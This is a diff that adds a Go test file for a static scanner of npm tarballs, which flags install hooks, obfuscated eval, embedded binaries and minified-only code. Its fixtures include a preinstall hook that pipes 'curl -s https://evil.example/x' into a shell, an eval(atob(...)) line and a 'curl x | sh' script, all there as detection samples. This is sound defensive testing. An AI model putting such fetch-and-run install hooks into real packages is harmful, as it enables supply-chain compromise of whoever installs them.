@@ -0,0 +1,67 @@
+package static
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestScan(t *testing.T) {
+	minified := "!function(){" + strings.Repeat("var a=1;", 400) + "}();\n"
+	tarball := staticTarball(t, map[string]string{
+		"package.json":       `{"name":"evil","scripts":{"preinstall":"curl -s https://evil.example/x | sh","postinstall":"node dist/setup.js","test":"node -e 1"}}`,
+		"dist/setup.js":      "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
+		"dist/index.js":      minified,
+		"dist/index.min.js":  minified,
+		"prebuilds/addon":    "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 64),
+		"lib/loader.js":      "var x = 1;\x00\x00\x01",
+		"assets/logo.png":    "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 32),
+		"docs/README.md":     "MZ is not a binary",
+		"dist/small.min.js":  "!function(){}();",
+		"scripts/install.sh": "echo ok\n",
+	})
+
+	report, err := Scan(bytes.NewReader(tarball))
+	require.NoError(t, err)
+
+	assert.Equal(t, []Finding{
+		{Kind: KindInstallScript, Path: "package.json", Detail: `preinstall downloads a file, pipes into a shell: "curl -s https://evil.example/x | sh"`},
+		{Kind: KindObfuscated, Path: "dist/setup.js", Detail: "eval of decoded string"},
+		{Kind: KindInstallScript, Path: "dist/setup.js", Detail: "run on install: eval of decoded string"},
+		{Kind: KindBinary, Path: "lib/loader.js", Detail: "binary data in a script, 13 bytes"},
+		{Kind: KindBinary, Path: "prebuilds/addon", Detail: "ELF executable, 71 bytes"},
+	}, report.Findings[:5])
+	require.Len(t, report.Findings, 6)
+	assert.Equal(t, KindMinifiedOnly, report.Findings[5].Kind)
+	assert.Equal(t, "all 2 JavaScript files over 2 KB are minified, none is readable source", report.Findings[5].Detail)
+
+	assert.Equal(t, []string{KindInstallScript, KindObfuscated, KindBinary, KindMinifiedOnly}, report.Kinds())
+	assert.Equal(t, 0.9, report.Score)
+	require.Len(t, report.Evidence, 1)
+	assert.Equal(t, "dist/setup.js", report.Evidence[0].Path)
+}
+
+func TestScanClean(t *testing.T) {
+	tarball := staticTarball(t, map[string]string{
+		"package.json": `{"name":"left-pad","scripts":{"postinstall":"node-gyp rebuild","test":"curl x | sh"}}`,
+		"index.js":     "module.exports = function leftPad(s, n) {\n" + strings.Repeat("  // pad\n", 300) + "};\n",
+		"index.min.js": "module.exports=function(s,n){" + strings.Repeat("s=' '+s;", 400) + "};",
+	})
+
+	report, err := Scan(bytes.NewReader(tarball))
+	require.NoError(t, err)
+	assert.Empty(t, report.Findings, "a readable file besides the minified one")
+	assert.Zero(t, report.Score)
+
+	var nilReport *Report
+	assert.Empty(t, nilReport.Kinds())
+}
+
+func TestScore(t *testing.T) {
+	assert.Zero(t, score(nil))
+	assert.Equal(t, 0.6, score([]string{KindObfuscated}))
+	assert.Equal(t, 0.8, score([]string{KindObfuscated, KindInstallScript}))
+}